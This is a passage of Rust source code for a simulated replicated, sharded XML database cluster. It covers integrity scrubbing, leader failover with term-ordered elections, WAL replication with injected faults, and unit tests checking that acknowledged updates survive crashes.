        }
    }

    fn scrub_shard(&mut self, s: usize, now: u64) {
        // --- leader side -------------------------------------------------
        let leader_probe = self.shards[s]
            .leader
            .as_ref()
            .map(|l| (l.db.wal_integrity(), l.db.checkpoint_integrity()));
        if let Some((wal, ckpts)) = leader_probe {
            let mut slot_damage = false;
            for v in &ckpts {
                match v {
                    IntegrityError::CheckpointSlotCorrupt { .. } => {
                        self.istats.scrub_ckpt_corruptions += 1;
                        slot_damage = true;
                    }
                    IntegrityError::AllCheckpointSlotsCorrupt => {
                        self.istats.scrub_ckpt_lost += 1;
                        slot_damage = true;
                    }
                    _ => {}
                }
            }
            let mid_prefix = matches!(wal, Some(IntegrityError::WalCorruption { .. }));
            if mid_prefix {
                self.istats.scrub_wal_corruptions += 1;
            }
            let has_followers = {
                let sh = &self.shards[s];
                sh.seats
                    .iter()
                    .enumerate()
                    .any(|(i, seat)| i != sh.leader_seat && seat.replica.borrow().is_some())
            };
            if mid_prefix && has_followers {
                // The durable log under an otherwise-live leader is rotten.
                // Demote it and let the ordinary election promote a replica
                // whose bytes still verify, rather than ever serving or
                // shipping from damaged media. Unlike a crash, a voluntary
                // step-down must not shrink the candidate set: right after
                // a failover, acked state can exist on the leader alone
                // (follower acks are reset under the new term until their
                // snapshots land). So first supersede the rot with a
                // checkpoint from intact memory, then leave the seat behind
                // as a follower candidate carrying the full committed log —
                // the election restriction re-promotes it, or an equally
                // caught-up peer, with nothing lost. Backdating
                // `leaderless_since` makes the failover detector fire
                // immediately.
                let detect = self.cfg.failover_detect_ms;
                let topology = self.topology.clone();
                let stats = self.stats.clone();
                let follower_cfg = self.cfg.follower_durability;
                let sh = &mut self.shards[s];
                if let Some(mut leader) = sh.leader.take() {
                    let committed = leader.db.committed_seq();
                    let _ = leader.db.checkpoint();
                    let seat = sh.leader_seat;
                    let disk = sh.seats[seat].disk.clone();
                    let (ck, _) = Checkpoint::read_latest_verified(&disk);
                    *sh.seats[seat].replica.borrow_mut() = Some(ReplicaNode {
                        shard: s,
                        term: sh.term,
                        store: leader.db.store.clone(),
                        disk,
                        cfg: follower_cfg,
                        topology,
                        stats,
                        ckpt_gen: ck.map(|c| c.gen).unwrap_or(0),
                        applied: committed,
                        acked: committed,
                    });
                    sh.seats[seat].health = SeatHealth::Healthy;
                }
                sh.leaderless_since = Some(now.saturating_sub(detect));
                sh.next_probe_at = now;
                sh.probed = vec![None; sh.seats.len()];
                self.istats.leader_demotions += 1;
                return; // follower scrubbing resumes once a leader exists
            }
            if mid_prefix || slot_damage {
                // No quorum to hand off to (or only slot damage): rewrite
                // durable state from intact memory — checkpoint + truncate
                // supersede the damaged bytes.
                if let Some(leader) = self.shards[s].leader.as_mut() {
                    let _ = leader.db.checkpoint();
                }
            }
        }
        // --- follower side -----------------------------------------------
        let Some(leader) = self.shards[s].leader.as_ref() else {
            return;
        };
        let committed = leader.db.committed_seq();
        let digests = leader.db.recorded_digests();
        let leader_seat = self.shards[s].leader_seat;
        for i in 0..self.shards[s].seats.len() {
            if i == leader_seat {
                continue;
            }
            // lifecycle: a quarantine cool-off elapses into probation
            if let SeatHealth::Quarantined { until } = self.shards[s].seats[i].health {
                if now >= until {
                    self.shards[s].seats[i].health = SeatHealth::Probation;
                }
            }
            let rep = self.shards[s].seats[i].replica.clone();
            let mut guard = rep.borrow_mut();
            let Some(node) = guard.as_mut() else {
                continue;
            };
            // own-disk probe: typed damage self-heals from intact memory
            // (every applied frame was CRC-checked on arrival), so a fresh
            // checkpoint supersedes the rot without losing acked state
            let (wal_rot, verdicts) = node.disk_damage();
            if wal_rot {
                self.istats.scrub_wal_corruptions += 1;
            }
            for v in &verdicts {
                match v {
                    IntegrityError::CheckpointSlotCorrupt { .. } => {
                        self.istats.scrub_ckpt_corruptions += 1;
                    }
                    IntegrityError::AllCheckpointSlotsCorrupt => {
                        self.istats.scrub_ckpt_lost += 1;
                    }
                    _ => {}
                }
            }
            if wal_rot || !verdicts.is_empty() {
                node.force_checkpoint();
                self.istats.repairs_started += 1;
                if self.shards[s].seats[i].health == SeatHealth::Healthy {
                    self.shards[s].seats[i].health = SeatHealth::Quarantined {
                        until: now + self.cfg.quarantine_ms,
                    };
                    self.istats.quarantines += 1;
                }
            }
            // digest cross-check: only meaningful when the replica claims
            // to hold the leader's whole committed log — a lagged replica
            // is old, not wrong
            let caught_up = node.applied >= committed;
            let mut diverged = false;
            if caught_up {
                for (uri, want) in &digests {
                    self.istats.scrub_docs_checked += 1;
                    if node.digest_for(uri) != Some(*want) {
                        self.istats.scrub_digest_mismatches += 1;
                        diverged = true;
                    }
                }
            }
            drop(guard);
            if diverged {
                // divergence means this replica's *memory* can no longer be
                // trusted: wipe and resync from a leader snapshot
                self.quarantine_and_resync(s, i, now);
                continue;
            }
            // probation → healthy only once caught up with clean digests
            if self.shards[s].seats[i].health == SeatHealth::Probation
                && caught_up
                && self.shards[s].seats[i].acked >= committed
            {
                self.shards[s].seats[i].health = SeatHealth::Healthy;
                self.istats.repairs_verified += 1;
            }
        }
    }

    /// One tick of cluster housekeeping: advances latent disk decay,
    /// executes due scheduled crashes, runs the anti-entropy scrubber,
    /// drives failovers, pumps replication links, and resolves pending
    /// updates. Returns the completions that finished at `now`.
    pub fn advance(&mut self, now: u64) -> Vec<ClusterCompletion> {
        let mut out = Vec::new();
        // latent bit rot accrues with virtual time on every seat disk,
        // leader and follower alike — decay never waits for a crash
        for sh in &self.shards {
            for seat in &sh.seats {
                seat.disk.decay_at(now);
            }
        }
        let due: Vec<usize> = self
            .crashes
            .iter()
            .filter(|(at, _)| *at <= now)
            .map(|(_, s)| *s)
            .collect();
        self.crashes.retain(|(at, _)| *at > now);
        for s in due {
            self.crash_leader(s, now);
        }
        let due_topo: Vec<TopologyChange> = self
            .topo_schedule
            .iter()
            .filter(|(at, _)| *at <= now)
            .map(|(_, c)| *c)
            .collect();
        self.topo_schedule.retain(|(at, _)| *at > now);
        for change in due_topo {
            self.apply_change(change, now);
        }
        if self.cfg.scrub_interval_ms > 0 && now >= self.next_scrub_at {
            self.next_scrub_at = now + self.cfg.scrub_interval_ms;
            self.scrub(now);
        }
        for s in 0..self.shards.len() {
            self.try_failover(s, now, &mut out);
        }
        // migrations step after failover (a fresh leader may unblock a
        // copy or cutover this very tick) and before pending resolution
        self.drive_migrations(now);
        // resolve before pumping: an ack earned by this tick's shipment is
        // only *observed* on a later tick, so acks always cost wall time
        for s in 0..self.shards.len() {
            self.resolve_pending(s, now, &mut out);
        }
        for s in 0..self.shards.len() {
            self.pump(s, now);
        }
        out
    }

    /// Steps virtual time from `from` until every shard has a leader, no
    /// update is pending, and every follower is fully caught up (or the
    /// iteration cap trips). Returns the final time and the completions.
    pub fn quiesce(&mut self, from: u64) -> (u64, Vec<ClusterCompletion>) {
        let step = self.cfg.link_latency_ms.max(1);
        let mut now = from;
        let mut out = Vec::new();
        for _ in 0..200_000 {
            out.extend(self.advance(now));
            if self.settled() {
                break;
            }
            now += step;
        }
        (now, out)
    }

    fn settled(&self) -> bool {
        if !self.migrations.is_empty() || !self.topo_schedule.is_empty() {
            return false;
        }
        self.shards.iter().all(|sh| {
            if sh.retired {
                return true; // shut down for good; nothing to wait on
            }
            let Some(leader) = sh.leader.as_ref() else {
                return false;
            };
            let committed = leader.db.committed_seq();
            sh.pending.is_empty()
                && sh.seats.iter().enumerate().all(|(i, seat)| {
                    i == sh.leader_seat
                        || seat.replica.borrow().is_none()
                        || seat.acked >= committed
                })
        })
    }

    fn try_failover(&mut self, s: usize, now: u64, out: &mut Vec<ClusterCompletion>) {
        let detect = self.cfg.failover_detect_ms;
        let probe_retry = self.cfg.probe_retry_ms;
        if self.shards[s].retired || self.shards[s].leader.is_some() {
            return;
        }
        let since = self.shards[s].leaderless_since.unwrap_or(now);
        if now < since + detect {
            return;
        }
        let follower_seats: Vec<usize> = self.shards[s]
            .seats
            .iter()
            .enumerate()
            .filter(|(_, seat)| seat.replica.borrow().is_some())
            .map(|(i, _)| i)
            .collect();
        if follower_seats.is_empty() {
            // leader-only shard: recover from the crashed disk itself
            let seat = self.shards[s].leader_seat;
            let disk = self.shards[s].seats[seat].disk.clone();
            match AppServer::recover(disk, self.cfg.durability) {
                Ok(server) => self.install_leader(s, seat, server, since, now, out),
                Err(_) => self.shards[s].next_probe_at = now + probe_retry,
            }
            return;
        }
        // probe round: every follower we have not heard from yet
        if now >= self.shards[s].next_probe_at {
            for &i in &follower_seats {
                if self.shards[s].probed[i].is_some() {
                    continue;
                }
                let host = self.shards[s].seats[i].host.clone();
                self.stats.borrow_mut().probes += 1;
                let req = Request::get(&format!("http://{host}/replicate?probe=1"));
                if let NetOutcome::Reply { resp, .. } = self.net.fetch_at(&req, now) {
                    if resp.status == 200 {
                        if let (Some(term), Some(acked)) = (
                            parse_attr(&resp.body, "term"),
                            parse_attr(&resp.body, "acked"),
                        ) {
                            self.shards[s].probed[i] = Some((term, acked));
                        }
                    }
                }
            }
            self.shards[s].next_probe_at = now + probe_retry;
        }
        // Quorum: any K − ack_replicas + 1 followers must include one that
        // holds every acked update (pigeonhole against the ack rule).
        let k = follower_seats.len();
        let quorum = k - self.cfg.ack_replicas.min(k) + 1;
        let heard: Vec<(usize, (u64, u64))> = follower_seats
            .iter()
            .filter_map(|&i| self.shards[s].probed[i].map(|ta| (i, ta)))
            .collect();
        if heard.len() < quorum {
            return;
        }
        // Raft's election restriction, lexicographic on (term, acked): a
        // longer log from a dead term must never beat a shorter one that
        // holds acked updates from a newer term.
        let (win, _) = heard
            .iter()
            .fold(None::<(usize, (u64, u64))>, |best, &(i, ta)| match best {
                Some((_, bta)) if bta >= ta => best,
                _ => Some((i, ta)),
            })
            .unwrap_or((follower_seats[0], (0, 0)));
        // Promotion guard: the winner's disk may carry latent rot that
        // recovery would truncate at, silently dropping acked frames its
        // memory still holds — and rot on the log's last frames is
        // indistinguishable from an ordinary torn tail, so detection can
        // never be complete. A live follower's memory is always at least
        // as new as its disk (`applied >= acked`), so unconditionally
        // checkpoint from memory — truncating whatever the log carried —
        // before handing the disk to recovery.
        {
            let rep = self.shards[s].seats[win].replica.clone();
            let mut guard = rep.borrow_mut();
            if let Some(node) = guard.as_mut() {
                let (wal_rot, verdicts) = node.disk_damage();
                if node.force_checkpoint() && (wal_rot || !verdicts.is_empty()) {
                    self.istats.promote_heals += 1;
                }
            }
        }
        let disk = self.shards[s].seats[win].disk.clone();
        match AppServer::recover(disk, self.cfg.durability) {
            Ok(server) => self.install_leader(s, win, server, since, now, out),
            Err(_) => {
                // damaged candidate: drop it and re-probe the rest
                self.shards[s].probed[win] = None;
                self.shards[s].next_probe_at = now + probe_retry;
            }
        }
    }

    /// Seats `server` as shard `s`'s leader at seat `win`, demotes the old
    /// leader seat to a fresh follower, resets every surviving follower
    /// with a term-stamped snapshot, and fails pending updates the new
    /// leader does not have.
    fn install_leader(
        &mut self,
        s: usize,
        win: usize,
        server: AppServer,
        since: u64,
        now: u64,
        out: &mut Vec<ClusterCompletion>,
    ) {
        let committed = server.db.committed_seq();
        let follower_cfg = self.cfg.follower_durability;
        let topology = self.topology.clone();
        let stats = self.stats.clone();
        let sh = &mut self.shards[s];
        let old = sh.leader_seat;
        if old != win {
            // the crashed leader's seat rejoins as an empty follower and
            // resyncs over the wire like any straggler
            let oseat = &mut sh.seats[old];
            for f in oseat.disk.files() {
                oseat.disk.delete(&f);
            }
            *oseat.replica.borrow_mut() = Some(ReplicaNode::fresh(
                s,
                oseat.disk.clone(),
                topology,
                stats,
                follower_cfg,
            ));
            oseat.acked = 0;
            oseat.shipped_top = 0;
            oseat.attempt = 0;
            oseat.force_snapshot = false;
            oseat.next_send_at = now;
            *sh.seats[win].replica.borrow_mut() = None;
        }
        sh.leader_seat = win;
        sh.leader = Some(server);
        sh.term += 1;
        sh.leaderless_since = None;
        sh.probed = vec![None; sh.seats.len()];
        for (i, seat) in sh.seats.iter_mut().enumerate() {
            if i == win || i == old || seat.replica.borrow().is_none() {
                continue;
            }
            // new term asserts the new leader's log: snapshot reset wipes
            // any divergent un-acked suffix and fences the old term
            seat.force_snapshot = true;
            seat.acked = 0;
            seat.shipped_top = 0;
            seat.attempt = 0;
            seat.next_send_at = now;
        }
        {
            let mut st = self.stats.borrow_mut();
            st.failovers += 1;
            st.blackout_ms += now.saturating_sub(since);
        }
        // pending updates beyond the new leader's log are gone for good
        let mut keep = VecDeque::new();
        while let Some(p) = self.shards[s].pending.pop_front() {
            if p.seq > committed {
                out.push(ClusterCompletion {
                    id: p.id,
                    shard: s,
                    class: Class::Update,
                    url: p.url,
                    arrival: p.arrival,
                    finished: now,
                    outcome: ClusterOutcome::LostInFailover,
                    response: ServerResponse::new(
                        503,
                        "<error code=\"XQIB0016\">update lost in failover; retry</error>",
                    )
                    .with_header("Retry-After", "1"),
                });
            } else {
                keep.push_back(p);
            }
        }
        self.shards[s].pending = keep;
    }

    /// Ships committed WAL frames (or snapshots) to every follower link
    /// whose send timer is due, with breaker + backoff on failures.
    fn pump(&mut self, s: usize, now: u64) {
        let nseats = self.shards[s].seats.len();
        for i in 0..nseats {
            if self.shards[s].leader.is_none() || i == self.shards[s].leader_seat {
                continue;
            }
            if self.shards[s].seats[i].replica.borrow().is_none() {
                continue;
            }
            // phase 1: decide what to ship (leader + seat borrows only)
            let (payload, host, term, frame_meta, was_snapshot) = {
                let cfg = &self.cfg;
                let sh = &mut self.shards[s];
                let seat = &mut sh.seats[i];
                if now < seat.next_send_at {
                    continue;
                }
                if !seat.breaker.allow(now, &mut seat.rstats) {
                    seat.next_send_at = now + cfg.probe_retry_ms.max(1);
                    continue;
                }
                let Some(leader) = sh.leader.as_mut() else {
                    continue;
                };
                let mut snapshot = seat.force_snapshot;
                let mut frames = Vec::new();
                if !snapshot {
                    match leader.db.committed_frames_after(seat.acked) {
                        Some(f) if f.is_empty() => continue, // caught up
                        Some(f) => frames = f,
                        None => snapshot = true, // log gap: checkpointed past
                    }
                }
                if snapshot {
                    match leader.db.replication_snapshot() {
                        Some(ck) => (
                            format!("S{}", to_hex(&ck.encode())),
                            seat.host.clone(),
                            sh.term,
                            Vec::new(),
                            true,
                        ),
                        None => {
                            seat.attempt += 1;
                            seat.next_send_at = now
                                + cfg.retry.backoff_delay(
                                    seat.attempt,
                                    mix64(((s as u64) << 8) | i as u64),
                                );
                            continue;
                        }
                    }
                } else {
                    frames.truncate(cfg.max_batch_frames.max(1));
                    let mut bytes = Vec::new();
                    let mut meta: Vec<(u64, usize)> = Vec::with_capacity(frames.len());
                    for f in &frames {
                        bytes.extend_from_slice(&f.bytes);
                        meta.push((f.seq, bytes.len()));
                    }
                    (
                        format!("F{}", to_hex(&bytes)),
                        seat.host.clone(),
                        sh.term,
                        meta,
                        false,
                    )
                }
            };
            // deterministic in-flight truncation (torn shipments)
            let draw = mix64(self.cfg.seed ^ 0x5eed ^ self.send_seq);
            self.send_seq += 1;
            let body = if self.cfg.ship_truncate_permille > 0
                && draw % 1000 < u64::from(self.cfg.ship_truncate_permille)
            {
                let cut = 1 + (mix64(draw) as usize) % payload.len().max(2);
                payload[..cut.min(payload.len())].to_string()
            } else {
                payload
            };
            // frames whose bytes fully survived the in-flight cut (one tag
            // char, then two hex chars per byte) are the ones on the wire
            let delivered = body.len().saturating_sub(1) / 2;
            let sent: Vec<u64> = frame_meta
                .iter()
                .take_while(|&&(_, end)| end <= delivered)
                .map(|&(seq, _)| seq)
                .collect();
            {
                let shipped_top = self.shards[s].seats[i].shipped_top;
                let mut st = self.stats.borrow_mut();
                if was_snapshot {
                    st.snapshots_shipped += 1;
                } else {
                    st.frames_shipped += sent.len() as u64;
                    st.frames_retried += sent.iter().filter(|&&q| q <= shipped_top).count() as u64;
                }
            }
            // phase 2: the network call (handler may borrow replica/stats)
            let req = Request::post(
                &format!("http://{host}/replicate?shard={s}&term={term}"),
                &body,
            );
            let outcome = self.net.fetch_at(&req, now);
            // phase 3: apply the outcome to the link
            let cfg = &self.cfg;
            let seat = &mut self.shards[s].seats[i];
            if let Some(&top) = sent.last() {
                seat.shipped_top = seat.shipped_top.max(top);
            }
            let mut refused_seq = None;
            let acked = match outcome {
                NetOutcome::Reply { resp, latency_ms } if resp.status == 200 => {
                    parse_attr(&resp.body, "seq").map(|a| (a, latency_ms))
                }
                NetOutcome::Reply { resp, .. } => {
                    refused_seq = parse_attr(&resp.body, "seq");
                    None
                }
                _ => None,
            };
            match acked {
                Some((ack, latency_ms)) => {
                    seat.breaker.on_success(&mut seat.rstats);
                    seat.attempt = 0;
                    if was_snapshot {
                        seat.force_snapshot = false;
                        // log reset: frames beyond the snapshot are fresh
                        seat.shipped_top = ack;
                    }
                    if ack > seat.acked {
                        self.stats.borrow_mut().frames_acked += ack - seat.acked;
                        seat.acked = ack;
                    }
                    // an ack below the shipped top (torn shipment) leaves
                    // committed frames unshipped: the next tick resends
                    seat.next_send_at = now + latency_ms.max(1);
                }
                None => {
                    // an ownership refusal still reports the follower's
                    // durable position for the frames before the break
                    if let Some(a) = refused_seq {
                        if a > seat.acked {
                            self.stats.borrow_mut().frames_acked += a - seat.acked;
                            seat.acked = a;
                        }
                    }
                    seat.breaker.on_failure(now, &mut seat.rstats);
                    seat.attempt += 1;
                    seat.next_send_at = now
                        + cfg
                            .retry
                            .backoff_delay(seat.attempt, mix64(((s as u64) << 8) | i as u64));
                }
            }
            let committed = self.shards[s]
                .leader
                .as_ref()
                .map(|l| l.db.committed_seq())
                .unwrap_or(0);
            let lag = committed.saturating_sub(self.shards[s].seats[i].acked);
            let mut st = self.stats.borrow_mut();
            if lag > st.max_replica_lag {
                st.max_replica_lag = lag;
            }
        }
    }

    /// Emits completions for pending updates whose ack rule now holds, and
    /// times out the rest per `ack_timeout_ms`.
    fn resolve_pending(&mut self, s: usize, now: u64, out: &mut Vec<ClusterCompletion>) {
        let need = self.cfg.ack_replicas.min(self.cfg.followers);
        let timeout = self.cfg.ack_timeout_ms;
        let sh = &mut self.shards[s];
        let committed = sh.leader.as_ref().map(|l| l.db.committed_seq());
        let leader_seat = sh.leader_seat;
        let mut keep = VecDeque::new();
        while let Some(p) = sh.pending.pop_front() {
            let acks = sh
                .seats
                .iter()
                .enumerate()
                .filter(|(i, seat)| {
                    *i != leader_seat && seat.replica.borrow().is_some() && seat.acked >= p.seq
                })
                .count();
            let satisfied = committed.is_some_and(|c| c >= p.seq) && acks >= need;
            if satisfied {
                out.push(ClusterCompletion {
                    id: p.id,
                    shard: s,
                    class: Class::Update,
                    url: p.url,
                    arrival: p.arrival,
                    finished: now,
                    outcome: ClusterOutcome::AckedUpdate,
                    response: p.response,
                });
            } else if now.saturating_sub(p.arrival) >= timeout {
                out.push(ClusterCompletion {
                    id: p.id,
                    shard: s,
                    class: Class::Update,
                    url: p.url,
                    arrival: p.arrival,
                    finished: now,
                    outcome: ClusterOutcome::AckTimeout,
                    response: ServerResponse::new(
                        503,
                        "<error code=\"XQIB0017\">replication ack timeout; \
                         update applied on the leader but not replicated</error>",
                    )
                    .with_header("Retry-After", "1"),
                });
            } else {
                keep.push_back(p);
            }
        }
        sh.pending = keep;
    }

    /// The `/metrics` surface: the first live leader's metrics with the
    /// cluster's replication, integrity and resharding counters mirrored
    /// in (every live leader gets the same snapshot, so any shard's
    /// endpoint agrees; shard 0 may be retired).
    fn metrics_response(&mut self) -> ServerResponse {
        let stats = self.stats.borrow().clone();
        let istats = self.integrity_stats();
        let rstats = self.rstats.clone();
        for sh in &mut self.shards {
            if let Some(leader) = sh.leader.as_mut() {
                leader.metrics.record_replication(&stats);
                leader.metrics.record_integrity(&istats);
                leader.metrics.record_resharding(&rstats);
            }
        }
        match self.shards.iter_mut().find_map(|sh| sh.leader.as_mut()) {
            Some(leader) => leader.handle("/metrics"),
            None => {
                let mut m = ServerMetrics::default();
                m.record_replication(&stats);
                m.record_integrity(&istats);
                m.record_resharding(&rstats);
                ServerResponse::new(200, m.to_xml())
            }
        }
    }

    /// Mirrors a fleet run's aggregate counters into every live leader's
    /// metrics, so the next `/metrics` render reports the client side of
    /// the deployment alongside the server and replication counters.
    pub fn record_fleet(&mut self, stats: &crate::fleet::FleetStats) {
        for sh in &mut self.shards {
            if let Some(leader) = sh.leader.as_mut() {
                leader.metrics.record_fleet(stats);
            }
        }
    }
}

fn no_leader_response() -> ServerResponse {
    ServerResponse::new(
        503,
        "<error code=\"XQIB0016\">no leader; failover in progress</error>",
    )
    .with_header("Retry-After", "1")
}

/// First `doc("…")` / `doc('…')` literal in an XQuery — the routing key
/// for `/query` and `/update` requests that don't pass `uri=` explicitly.
fn first_doc_literal(xq: &str) -> Option<String> {
    let start = xq.find("doc(")? + 4;
    let rest = &xq[start..];
    let quote = rest.chars().next()?;
    if quote != '"' && quote != '\'' {
        return None;
    }
    let inner = &rest[1..];
    Some(inner[..inner.find(quote)?].to_string())
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    fn doc_url(uri: &str) -> String {
        format!("/doc?uri={uri}")
    }

    fn update_url(uri: &str, marker: &str) -> String {
        format!("/update?xq=insert node <m id=\"{marker}\"/> into doc(\"{uri}\")/*")
    }

    fn seeded(mut cfg: ClusterConfig) -> Cluster {
        cfg.seed = 42;
        let mut c = Cluster::new(cfg);
        for i in 0..6 {
            let uri = format!("d{i}.xml");
            c.load(&uri, &format!("<root n=\"{i}\"/>")).unwrap();
        }
        c
    }

    /// Drives `c` until the pending update `id` completes (or panics).
    fn await_update(c: &mut Cluster, id: u64, mut now: u64) -> (ClusterCompletion, u64) {
        for _ in 0..10_000 {
            for done in c.advance(now) {
                if done.id == id {
                    return (done, now);
                }
            }
            now += 1;
        }
        panic!("update {id} never completed");
    }

    #[test]
    fn router_is_deterministic_and_covers_every_shard() {
        let a = Router::new(4, 7);
        let b = Router::new(4, 7);
        let mut hit = [false; 4];
        for i in 0..200 {
            let uri = format!("doc-{i}.xml");
            assert_eq!(a.owner(&uri), b.owner(&uri));
            hit[a.owner(&uri)] = true;
        }
        assert!(hit.iter().all(|h| *h), "200 URIs should touch all 4 shards");
    }

    #[test]
    fn replicated_update_acks_only_after_the_follower_is_durable() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 1,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let url = update_url("d0.xml", "k1");
        let id = match c.submit(&url, 10) {
            Submitted::Pending(id) => id,
            Submitted::Done(d) => panic!("acked before replication: {:?}", d.outcome),
        };
        let (done, _) = await_update(&mut c, id, 10);
        assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
        assert_eq!(done.response.status, 200);
        assert!(done.finished > done.arrival, "ack must cost round trips");
        // the follower replica holds the marker via shipped WAL frames
        let sh0 = &c.shards[0];
        let follower = sh0.seats[1].replica.borrow();
        let xml = follower.as_ref().unwrap().serialize("d0.xml").unwrap();
        assert!(xml.contains("k1"), "follower missing the update: {xml}");
        let stats = c.stats();
        assert!(stats.frames_shipped > 0);
        assert!(stats.frames_acked > 0);
        // clean links: every shipped frame acks exactly once, none re-sent
        assert_eq!(stats.frames_shipped, stats.frames_acked);
        assert_eq!(stats.frames_retried, 0);
    }

    #[test]
    fn leader_only_cluster_acks_immediately_and_self_recovers() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 0,
            ack_replicas: 0,
            ..ClusterConfig::default()
        });
        let done = match c.submit(&update_url("d0.xml", "solo"), 5) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("leader-only update should ack synchronously"),
        };
        assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
        c.crash_leader(0, 100);
        assert!(!c.has_leader(0));
        let (_, _) = c.quiesce(100);
        assert!(c.has_leader(0), "self-recovery should restore the leader");
        assert!(
            c.contains("d0.xml", "solo"),
            "acked update lost in self-recovery"
        );
        assert_eq!(c.stats().failovers, 1);
    }

    #[test]
    fn leader_crash_promotes_a_follower_and_keeps_every_acked_update() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 2,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let mut acked = Vec::new();
        let mut now = 0;
        for i in 0..8 {
            let marker = format!("m{i}");
            match c.submit(&update_url("d0.xml", &marker), now) {
                Submitted::Pending(id) => {
                    let (done, at) = await_update(&mut c, id, now);
                    assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
                    now = at + 1;
                }
                Submitted::Done(d) => {
                    assert_eq!(d.outcome, ClusterOutcome::AckedUpdate);
                    now += 1;
                }
            }
            acked.push(marker);
        }
        c.crash_leader(0, now);
        let (_, _) = c.quiesce(now);
        assert!(c.has_leader(0), "failover should elect a new leader");
        assert_ne!(c.leader_seat(0), 0, "a follower must have been promoted");
        assert_eq!(c.term(0), 2);
        for marker in &acked {
            assert!(
                c.contains("d0.xml", marker),
                "acked update {marker} lost across failover"
            );
        }
        assert_eq!(c.stats().failovers, 1);
        assert!(c.stats().blackout_ms > 0);
    }

    #[test]
    fn double_failover_is_idempotent_on_acked_state() {
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 2,
            ack_replicas: 1,
            ..ClusterConfig::default()
        });
        let mut now = 0;
        for round in 0..2 {
            let marker = format!("r{round}");
            match c.submit(&update_url("d0.xml", &marker), now) {
                Submitted::Pending(id) => {
                    let (done, at) = await_update(&mut c, id, now);
                    assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
                    now = at + 1;
                }
                Submitted::Done(_) => now += 1,
            }
            c.crash_leader(0, now);
            let (settled, _) = c.quiesce(now);
            now = settled + 1;
            assert!(c.has_leader(0), "round {round}: no leader after failover");
        }
        assert_eq!(c.term(0), 3);
        assert_eq!(c.stats().failovers, 2);
        for round in 0..2 {
            assert!(
                c.contains("d0.xml", &format!("r{round}")),
                "acked update r{round} lost after double failover"
            );
        }
    }

    #[test]
    fn stale_term_follower_with_longer_log_never_wins_failover() {
        // In term 1, follower B (seat 2) alone durably holds a tail of
        // updates the client never saw acked; term 2 then acks new updates
        // through the other seats while B is partitioned. When the term-2
        // leader crashes and B is heard again, promotion must weigh
        // (term, acked): promoting B on raw acked length would resurrect
        // the dead term-1 tail and drop the acked term-2 updates.
        let mut c = seeded(ClusterConfig {
            shards: 1,
            followers: 3,
            ack_replicas: 2,
            ..ClusterConfig::default()
        });
        // A = seat 1 dark for all of term 1, C = seat 3 dark only for the
        // un-acked tail, B = seat 2 dark from just before the first crash
        // until the second one
        c.partition(0, 1, 0, 500);
        c.partition(0, 3, 300, 650);
        c.partition(0, 2, 490, 900);
        let mut now = 10;
        for i in 0..3 {
            match c.submit(&update_url("d0.xml", &format!("m{i}")), now) {
                Submitted::Pending(id) => {
                    let (done, at) = await_update(&mut c, id, now);
                    assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
                    now = at + 1;
                }
                Submitted::Done(d) => {
                    assert_eq!(d.outcome, ClusterOutcome::AckedUpdate);
                    now += 1;
                }
            }
        }
        assert!(now < 300, "acked phase must finish before C goes dark");
        // un-acked tail: only B receives e0..e2 (C dark, so 1 ack < 2)
        now = 310;
        for i in 0..3 {
            match c.submit(&update_url("d0.xml", &format!("e{i}")), now) {
                Submitted::Pending(_) => {}
                Submitted::Done(d) => panic!("tail update cannot ack: {:?}", d.outcome),
            }
            now += 5;
        }
        while now < 480 {
            let _ = c.advance(now);
            now += 5;
        }
        // every load/update journals a content-digest frame alongside its
        // redo record, so seqs advance by 2: 6 seed loads + 3 acked + 3
        // tail updates put B at 24; C stops at the acked prefix (18)
        assert_eq!(c.shards[0].seats[2].acked, 24, "B must hold the tail");
        assert_eq!(
            c.shards[0].seats[3].acked, 18,
            "C stops at the acked prefix"
        );
        // first failover: B is unheard, C (acked 9) beats A (acked 0)
        c.crash_leader(0, 500);
        now = 500;
        while !c.has_leader(0) && now < 900 {
            let _ = c.advance(now);
            now += 5;
        }
        assert!(c.has_leader(0), "first failover must complete");
        assert_eq!(c.leader_seat(0), 3, "most-caught-up heard follower wins");
        assert_eq!(c.term(0), 2);
        // term 2 acks two updates through seat 0 and A while B stays dark
        for i in 0..2 {
            match c.submit(&update_url("d0.xml", &format!("n{i}")), now) {
                Submitted::Pending(id) => {
                    let (done, at) = await_update(&mut c, id, now);
                    assert_eq!(done.outcome, ClusterOutcome::AckedUpdate);
                    now = at + 1;
                }
                Submitted::Done(d) => {
                    assert_eq!(d.outcome, ClusterOutcome::AckedUpdate);
                    now += 1;
                }
            }
        }
        assert!(now < 900, "term-2 acks must land before B heals");
        // second failover: B (term 1, acked 12) is heard alongside seats
        // at (term 2, acked 11) — the newer term wins despite less log
        c.crash_leader(0, 900);
        let (_, _) = c.quiesce(900);
        assert!(c.has_leader(0), "second failover must complete");
        assert_ne!(c.leader_seat(0), 2, "stale-term B must not be promoted");
        assert_eq!(c.term(0), 3);
        for marker in ["m0", "m1", "m2", "n0", "n1"] {
            assert!(c.contains("d0.xml", marker), "acked update {marker} lost");
        }
        for marker in ["e0", "e1", "e2"] {
            assert!(
                !c.contains("d0.xml", marker),
                "dead term-1 tail {marker} resurrected"
            );
        }
    }

    #[test]
    fn misrouted_requests_are_refused_with_421() {
        let mut c = seeded(ClusterConfig {
            shards: 4,
            followers: 0,
            ack_replicas: 0,
            ..ClusterConfig::default()
        });
        let owner = c.owner("d0.xml");
        let wrong = (owner + 1) % c.shard_count();
        let before = c.stats().ownership_rejections;
        let done = match c.serve_at(wrong, &doc_url("d0.xml"), 0) {
            Submitted::Done(d) => d,
            Submitted::Pending(_) => panic!("misroute cannot pend"),
        };
        assert_eq!(done.response.status, 421);
        assert_eq!(done.outcome, ClusterOutcome::Misrouted);
        assert_eq!(c.stats().ownership_rejections, before + 1);
        // and the rightful owner serves it fine
